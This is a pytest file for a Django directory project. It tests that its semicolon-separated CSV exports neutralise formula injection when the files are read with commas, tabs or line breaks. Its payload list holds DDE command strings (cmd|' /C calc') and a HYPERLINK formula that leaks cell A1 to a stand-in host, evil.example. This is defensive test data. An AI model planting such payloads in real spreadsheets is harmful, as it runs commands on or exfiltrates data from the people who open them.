"""CSV injection through a delimiter the file does not use.

Our files are separated by ``;``. A spreadsheet that splits on ``,`` (Excel in a comma
locale, importers that guess the delimiter) or on tabs, or that ends a record at a line
break inside a cell, starts a new cell in the middle of a text: ``Ferme,=1+1`` gave a
``=1+1`` cell. Every text cell is now quoted (numbers stay bare), and a formula trigger
that follows a ``,`` ``;`` tab or line break inside a text is neutralised like one at the
start. The files are attacked through what strangers write (a listing's name and
description, a partner's list, a visitor's search) and read back with each delimiter.
"""

import csv
import io
import re

import pytest
from django.core.management import call_command

from tests.security.test_csv_injection import DANGEROUS, NUMBER

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "Ferme,=1+1",
    "x,=cmd|' /C calc'!A0,",
    'Chez nous,=HYPERLINK("https://evil.example/?d="&A1,"ici")',
    "Lot 3,-2+3+cmd|' /C calc'!A0",
    "a, +cmd|' /C calc'!A0",
    "a,@SUM(1+1)*cmd|' /C calc'!A0",
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n-2+3",
    "a\r=1+1",
    "a,＝1+1",
    "a,'=1+1",  # the attacker's own apostrophe
    'a,"=1+1',
    'a,""=1+1',
    "Produits :\n- œufs\n- lait",
]
DELIMITERS = [",", ";", "\t"]


def dangerous_cells(text: str) -> dict:
    found = {}
    for delimiter in DELIMITERS:
        rows = csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=delimiter)
        cells = [c for row in rows for c in row if c.strip()]  # a line break alone is empty
        bad = [c for c in cells if DANGEROUS.match(c) and not NUMBER.match(c)]
        if bad:
            found[repr(delimiter)] = bad
    return found


def test_the_writer_quotes_text_and_leaves_numbers_bare():
    from directory.spreadsheet import Writer

    out = io.StringIO()
    Writer(out, delimiter=";").writerow(["Ferme,=1+1", -0.35, 12, "41000", ""])
    line = out.getvalue()
    assert line.startswith('"Ferme,'), f"a text cell was not quoted: {line!r}"
    assert ";-0.35;12;" in line, f"numbers must stay bare numbers: {line!r}"
    assert ';"41000";' in line, f"text that looks like a number is still text: {line!r}"


def test_every_payload_is_harmless_with_every_delimiter():
    from directory.spreadsheet import Writer, original, safe_cell

    for payload in PAYLOADS:
        out = io.StringIO()
        Writer(out, delimiter=";").writerow(["début", payload, 47.4, payload, -0.35, payload])
        bad = dangerous_cells(out.getvalue())
        assert not bad, f"{payload!r} gives formula cells when read back: {bad}"
        assert original(safe_cell(payload)) == payload, f"{payload!r} does not read back"


def test_harmless_text_is_left_alone():
    from directory.spreadsheet import safe_cell

    for text in ("Ferme du Moulin", "Tours, Blois", "50% bio; 50% local", "3,5 kg", "a=b"):
        assert safe_cell(text) == text, f"harmless text {text!r} was changed"


@pytest.fixture
def listings(make_actor, territories):
    return [
        make_actor(lat=47.4, lon=-0.35, name=p[:100], description=p, address=f"{n} {p}"[:200])
        for n, p in enumerate(PAYLOADS)
    ]


def test_open_data_csv_with_every_delimiter_and_it_reloads(settings, tmp_path, listings):
    from directory.opendata import reimport

    settings.TOUTPRES_OPEN_DATA = {**settings.TOUTPRES_OPEN_DATA, "DIR": tmp_path / "od"}
    call_command("export_opendata", "--format", "csv", "--no-progress", stdout=io.StringIO())
    path = tmp_path / "od" / "tout-pres.csv"
    text = path.read_text(encoding="utf-8-sig")
    bad = dangerous_cells(text)
    assert not bad, f"formula cells in the open-data CSV: {bad}"
    assert re.search(r";47\.4;-0\.35;", text), "latitude and longitude must stay bare numbers"
    by_slug = {row["slug"]: row for row in reimport.read(path, ";")}
    for actor in listings:
        row = by_slug[actor.slug]
        assert (row["name"], row["description"]) == (actor.name, actor.description), (
            f"reloading the export changed {actor.name!r}"
        )
        assert float(row["longitude"]) == pytest.approx(-0.35)
